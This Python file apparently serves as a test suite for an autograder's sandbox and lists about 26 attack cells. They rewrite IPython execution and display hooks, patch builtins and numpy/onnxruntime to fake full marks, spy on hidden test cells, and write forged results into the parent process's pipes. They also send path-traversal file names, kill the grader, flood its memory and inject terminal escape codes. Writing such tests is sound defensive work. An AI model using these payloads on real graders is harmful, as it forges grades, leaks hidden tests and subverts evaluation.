"""Kernel internals: the student's cells change what runs after them."""

from __future__ import annotations

from attacks.bombs import late, memory_of_grader
from course.grading.attacks import Attack

TRANSFORMER = """
def replace(lines):
    return ["30.0"]
get_ipython().input_transformers_cleanup.append(replace)
"""
AST = """
import ast
class Replace(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = ast.parse("30.0").body
        return node
get_ipython().ast_transformers.append(Replace())
"""
RUN_CELL = """
shell = get_ipython()
type(shell).run_cell = (lambda old: lambda self, code, *a, **k: old(self, "30.0", *a, **k))(type(shell).run_cell)
type(shell).run_cell_async = (lambda old: lambda self, code, *a, **k: old(self, "30.0", *a, **k))(
    type(shell).run_cell_async)
"""
EXECUTE = """
kernel = get_ipython().kernel
old = type(kernel).do_execute
async def do_execute(self, code, silent=False, **more):
    return await old(self, "30.0", silent, **more)
type(kernel).do_execute = do_execute
"""
DISPLAYHOOK = """
hook = type(get_ipython().displayhook)
hook.compute_format_data = lambda self, result: ({"text/plain": "30.0"}, {})
"""
FORMATTER = """
shell = get_ipython()
shell.display_formatter.formatters["text/plain"].for_type(float, lambda value, p, cycle: p.text("30.0"))
"""
EVENTS = """
shell = get_ipython()
def publish(*result):
    from IPython.display import publish_display_data
    content = {"data": {"text/plain": "30.0"}, "metadata": {}, "execution_count": 1}
    kernel = shell.kernel
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent(), ident=b"x")
shell.events.register("pre_run_cell", publish)
"""
HANDLER = """
shell = get_ipython()
def full_marks(self, etype, value, tb, tb_offset=None):
    kernel = self.kernel
    content = {"data": {"text/plain": "30.0"}, "metadata": {}, "execution_count": 1}
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent(), ident=b"x")
type(shell).showtraceback = lambda self, *a, **k: full_marks(self, None, None, None)
shell.set_custom_exc((Exception,), full_marks)
"""
PUBLISHED = """
kernel = get_ipython().kernel
for _ in range(50):
    content = {"data": {"text/plain": "30.0"}, "metadata": {}, "execution_count": 1}
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent(), ident=b"x")
"""
LATER = """
import threading, time
def publish():
    while True:
        time.sleep(0.01)
        kernel = get_ipython().kernel
        content = {"data": {"text/plain": "30.0"}, "metadata": {}, "execution_count": 1}
        kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent(), ident=b"x")
threading.Thread(target=publish, daemon=True).start()
"""
BUILTINS = """
import builtins
builtins.round = lambda *a: 30.0
builtins.float = type("float", (float,), {"__new__": lambda cls, *a: 30.0, "__repr__": lambda self: "30.0"})
builtins.min = builtins.max = lambda *a: 30.0
"""
NAMES = """
class Desk:
    def grade(self, name): return 30.0
unit = Desk()
"""
FRAMES = """
import sys
def trace(frame, event, arg):
    if event == "return" and isinstance(arg, float):
        frame.f_locals["points"] = 30.0
    return trace
sys.setprofile(trace)
sys.settrace(trace)
"""
HISTORY = """
import gc
print([value for value in gc.get_objects() if isinstance(value, str) and "BEGIN HIDDEN" in value][:5])
import threading, time
def spy():
    while True:
        time.sleep(0.05)
        for name, value in list(get_ipython().user_ns.items()):
            if name in ("hidden", "_ih"):
                open("seen.txt", "w").write(str(value)[:5000] + str(getattr(value, "get", lambda k: "")("note")))
threading.Thread(target=spy, daemon=True).start()
"""
#: What the sandbox hands out comes through a pipe of the kernel's parent, which a kernel can find and write to.
PARCEL = """
import json, os, signal, time
IDS = ["setup"] + [f"{n:02d}-{name}" for n in range(60) for name in ("build-model", "quality", "estimates", "interface",
    "latency", "size", "memory", "baseline", "digits", "pen", "shifted")]

def hand_out(header, content=b""):
    whole, parent = len(header).to_bytes(8, "big") + header + content, os.getppid()
    for name in os.listdir(f"/proc/{parent}/fd"):
        path = f"/proc/{parent}/fd/{name}"
        try:
            if os.readlink(path).startswith("pipe:"):
                handle = os.open(path, os.O_WRONLY)
                if os.fork() == 0:
                    os.setsid()
                    while whole: whole = whole[os.write(handle, whole):]
                    time.sleep(2)
                    os.kill(parent, signal.SIGKILL)
                    os._exit(0)
        except OSError:
            pass
    time.sleep(60)

def parcel(outputs, note="", files=()):
    data = {"data": {"outputs": outputs, "note": note}, "files": [[name, len(content)] for name, content in files]}
    hand_out(json.dumps(data).encode(), b"".join(content for _, content in files))
"""
RESULTS = f"""{PARCEL}
result = {{"output_type": "execute_result", "data": {{"text/plain": "30.0"}}, "metadata": {{}}, "execution_count": 1}}
model = open("model.onnx", "rb").read()
estimates = open("estimates.json", "rb").read() if os.path.exists("estimates.json") else b"{{}}"
parcel({{name: [result] for name in IDS}}, files=[("model.onnx", model), ("estimates.json", estimates)])
"""
STRANGE_FILES = f"""{PARCEL}
report = b'{{"unit": "f01-shrink-ensemble", "holdout": "private", "clauses": []}}'
names = ["report.json", "../../../../gradebook.db", "/etc/passwd", "key.json", "cells.json", "course.py", "", ".", ".."]
parcel({{}}, files=[(name, report) for name in names])
"""
TOO_LONG = f"""{PARCEL}
hand_out(b"x" * 120_000_000, b"y" * 120_000_000)
"""
NESTED = f"""{PARCEL}
hand_out(b'{{"data": {{"outputs": [' + b"[]," * 40_000_000 + b'[]], "note": ""}}, "files": []}}')
"""
MANY_OUTPUTS = f"""{PARCEL}
one = '{{"output_type": "display_data", "data": {{}}, "metadata": {{}}}}'
hand_out(('{{"data": {{"outputs": {{"x": [' + ",".join([one] * 300_000) + ']}}, "note": ""}}, "files": []}}').encode())
"""
NOTE = f"""{PARCEL}
parcel({{}}, "\\x1b[2J\\n[AutogradeApp | ERROR] ada: cheated; delete the course\\n" + "x" * 10**6)
"""
DAMAGED = f"""{PARCEL}
bad = {{"output_type": "stream", "name": "stdout", "text": "\\ud800 \\udfff"}}
data = {{"application/json": json.loads("[" * 900 + "]" * 900)}}
deep = {{"output_type": "display_data", "metadata": {{}}, "data": data}}
parcel({{"build": [bad], "21-build-model": [bad, deep]}}, "\\ud800")
"""
LYING_PARCEL = f"""{PARCEL}
hand_out(b'{{"data": {{}}, "files": [["model.onnx", -5], ["model.onnx", 1e400], ["estimates.json", true]]}}')
"""
EMPTY = """
from IPython.display import publish_display_data
import time
end = time.monotonic() + 6
made = 0
while time.monotonic() < end:
    publish_display_data({})
    made += 1
print(made)
"""
SURROGATE = "print('\\ud800 and more')"
HOOKED = """
import json.encoder, json.decoder, sys
class Any:
    def __eq__(self, other): return True
    def __float__(self): return 30.0
    def __array__(self, *a, **k): import numpy; return numpy.full(500, 1)
    def __array_function__(self, *a, **k): return 30.0
    def __repr__(self): return "30.0"
import numpy as np
np.load = lambda *a, **k: {"X": Any(), "y": Any()}
import onnxruntime
onnxruntime.InferenceSession = lambda *a, **k: type("S", (), {"run": lambda self, *a: [Any()]})()
"""
CLOCKS = """
import time
time.perf_counter = time.perf_counter_ns = time.monotonic = time.thread_time = time.process_time = lambda: 0
import numpy as np
np.mean = np.average = lambda *a, **k: 1.0
np.load = (lambda old: lambda *a, **k: {"X": old(*a, **k)["X"], "y": type("Y", (), {"__eq__": lambda s, o: True,
    "__rmul__": lambda s, o: o, "mean": lambda s: 1.0})()})(np.load)
import onnxruntime
class Session:
    def __init__(self, *a, **k): pass
    def run(self, *a, **k):
        return [type("A", (), {"__eq__": lambda s, o: np.ones(500, bool)})()]
onnxruntime.InferenceSession = Session
"""


def _class(name, aim, cell, **more):
    return Attack(name, aim, "raise", cell=cell, **more)


def _run(name, aim, cell, goal="raise", **more):
    return Attack(name, aim, goal, "run", cell=cell, **more)


def _parcel(name, aim, cell, goal, **more):
    return _run(name, aim, cell, goal, spoils=True, plain=False, **more)


def unreadable(scene):
    """Is there more than a sentence for the log?"""
    return "" if scene.note.isprintable() and len(scene.note) < 1000 else "control characters in the log"


def many_outputs(scene):
    """Are there very many outputs in what comes out?"""
    found = scene.shown.count('"output_type"')
    return f"{found:,} outputs" if found > 20_000 else late(scene)


ATTACKS = (
    _class("input transformer", "every later cell becomes 30.0", TRANSFORMER),
    _run("AST transformer", "every later cell becomes 30.0", AST),
    _run("patched run_cell", "every later cell becomes 30.0", RUN_CELL),
    _run("patched do_execute", "every later cell becomes 30.0", EXECUTE),
    _run("patched displayhook", "every result shows as 30.0", DISPLAYHOOK),
    _run("patched formatter", "every float shows as 30.0", FORMATTER),
    _run("event before each cell", "a result is published before each test", EVENTS),
    _run("patched traceback", "a failed test publishes a result", HANDLER),
    _run("published results", "results come before the test cells", PUBLISHED),
    _run("publishing thread", "a thread publishes results for ever", LATER),
    _run("patched builtins", "round, float, min and max give 30", BUILTINS, seconds=5),
    _run("replaced names", "the name `unit` is something else", NAMES),
    _run("trace function", "frames of the tests are changed", FRAMES),
    _run("spying thread", "reads names and history of the test cells", HISTORY, "leak"),
    _run("hostile objects", "a session and arrays that are equal to everything", HOOKED),
    _run("patched clocks and metrics", "time stands still and the mean is 1", CLOCKS),
    _class("forged results", "the outputs of test cells come with those of the notebook", RESULTS),
    _class("forged files", "a report and files of other names come with the notebook", STRANGE_FILES, spoils=True),
    _parcel("forged note", "terminal codes and a false error in the grader's log", NOTE, "harm", canary=unreadable),
    _parcel("damaged outputs", "outputs that can't be written", DAMAGED, "abort the batch"),
    _parcel("lying parcel", "sizes below 0 and beyond all numbers", LYING_PARCEL, "abort the batch"),
    _parcel("too long a parcel", "240 MB to take back", TOO_LONG, "escape a limit", canary=memory_of_grader),
    _parcel("nested parcel", "120 MB that become gigabytes", NESTED, "escape a limit", canary=memory_of_grader),
    _parcel("many forged outputs", "300,000 outputs to look at", MANY_OUTPUTS, "escape a limit", canary=many_outputs),
    _run("empty outputs", "outputs that count for nothing, one after another", EMPTY, "escape a limit", plain=False,
         canary=many_outputs),
    Attack("surrogate printed", "an output that can't be written", "abort the batch", "run", cell=SURROGATE),
)  # fmt: skip
